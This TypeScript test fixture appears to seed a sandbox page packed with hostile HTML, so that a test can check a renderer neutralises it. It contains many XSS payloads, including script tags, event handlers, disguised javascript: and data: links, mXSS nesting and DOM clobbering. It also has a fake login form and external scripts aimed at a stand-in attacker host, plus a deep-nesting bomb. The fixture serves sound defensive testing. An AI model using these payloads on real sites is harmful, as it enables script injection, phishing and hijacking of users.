import { page } from '../page-seed.ts';
import { hero, image, links, quote, section, text } from '../paragraph-seed.ts';

/** How deep the deepest markup is; parsers give up elsewhere, browsers crash elsewhere. */
const DEPTH = 600;

/** Whatever runs sets this; a test looks whether it is there. */
const MARK = 'window.__hostile=1';

/**
 * Content by an attacker, between sentences that have to stay readable. Every attack that works sets
 * `window.__hostile`, changes the address, or sends a request to `attacker.example.net`.
 */
export const hostilePage = page(36, '/sandbox/hostile', 'Hostile <b onclick="window.__hostile=1">content</b>', [
  text(
    `<p>Before the scripts.</p>
<script>${MARK}</script>
<p>Between the scripts.<script src="https://attacker.example.net/a.js"></script></p>
<noscript><p title="</noscript><img src=x onerror=${MARK}>">With scripts off</p></noscript>
<p>After the scripts.</p>`,
    'full_html',
  ),
  text(
    `<p onmouseover="${MARK}" onclick="${MARK}">A paragraph with handlers.</p>
<img src="x" onerror="${MARK}" alt="A picture that fails on purpose">
<img src="https://attacker.example.net/pixel.png" alt="" width="1" height="1">
<details open ontoggle="${MARK}"><summary>Details</summary>Opened by itself.</details>
<svg onload="${MARK}"><a xlink:href="javascript:${MARK}"><text y="20">Drawn link</text></a><animate attributeName="href" values="javascript:${MARK}"></svg>
<math><mtext><table><mglyph><style><img src=x onerror="${MARK}"></style></mglyph></table></mtext></math>`,
    'full_html',
  ),
  text(
    `<ul>
<li><a href="javascript:${MARK}">a script</a></li>
<li><a href="JaVa&#x09;Script&colon;${MARK}">a script in disguise</a></li>
<li><a href=" &#1; javascript:${MARK}">a script behind a space</a></li>
<li><a href="data:text/html,&lt;script&gt;${MARK}&lt;/script&gt;">a document in the address</a></li>
<li><a href="vbscript:msgbox(1)">an older script</a></li>
<li><a href="blob:https://attacker.example.net/1">a blob</a></li>
<li><a href="//attacker.example.net/">an address without protocol</a></li>
<li><a href="/\\attacker.example.net/">an address with a backslash</a></li>
<li><a href="/..//attacker.example.net">an address that climbs</a></li>
<li><a href="https://attacker.example.net/" target="_blank">a new tab</a></li>
<li><a href="/about" ping="https://attacker.example.net/ping">an honest link that tells</a></li>
</ul>`,
    'full_html',
  ),
  text(
    `<p style="position:fixed;inset:0;z-index:99999;background:red">A paragraph that wants the whole window.</p>
<style>body{display:none!important}@import url(https://attacker.example.net/a.css);</style>
<link rel="stylesheet" href="https://attacker.example.net/b.css">
<meta http-equiv="refresh" content="0;url=https://attacker.example.net/">
<base href="https://attacker.example.net/">
<iframe src="javascript:parent.${MARK}"></iframe><iframe srcdoc="&lt;script&gt;parent.${MARK}&lt;/script&gt;"></iframe>
<object data="data:text/html,&lt;script&gt;${MARK}&lt;/script&gt;"></object><embed src="https://attacker.example.net/a.swf">
<video src="https://attacker.example.net/a.mp4" autoplay onplay="${MARK}"></video>`,
    'full_html',
  ),
  text(
    `<form action="https://attacker.example.net/login" method="post"><p>Your session has ended. Please log in again.</p>
<input name="mail" autofocus onfocus="${MARK}"><input type="password" name="password"><button formaction="javascript:${MARK}">Log in</button></form>
<div id="root">A second root</div><a id="portal-config" href="#">A clobbered name</a><img name="getElementById" alt=""><form id="__proto__"><input name="attributes"></form>
<template><script>${MARK}</script></template>
<p data-list="ordered" is="x-y" slot="z">Attributes that are not asked for.</p>
<p>Unclosed <b>bold <i>italic <a href="/about">link`,
    'full_html',
  ),
  text(`${'<div><span>'.repeat(DEPTH)}<b>Very deep inside.</b>${'</span></div>'.repeat(DEPTH)}`, 'full_html'),
  ...section('<img src=x onerror=window.__hostile=1>', 'two', {
    first: [quote(`<p>Said with <a href="javascript:${MARK}">conviction</a>.</p>`, `<script>${MARK}</script>`)],
    second: [image('screen.png', `" onerror="${MARK}`, `<svg onload=${MARK}>`)],
  }),
  hero({
    title: '</h1><script>window.__hostile=1</script>',
    caption: 'A link that must not run',
    image: 'harbour.png',
    alt: 'A harbour at night',
    link: { uri: `javascript:${MARK}`, title: 'Press me' },
  }),
  links(
    [`javascript:${MARK}`, 'A script as a link'],
    ['data:text/html,<script>1</script>', 'A document as a link'],
    ['internal:/about', 'An internal address'],
    ['https://attacker.example.net/', '<b>Bold</b> & "quoted"'],
  ),
  text('<p>After everything, this sentence can still be read.</p>'),
]);
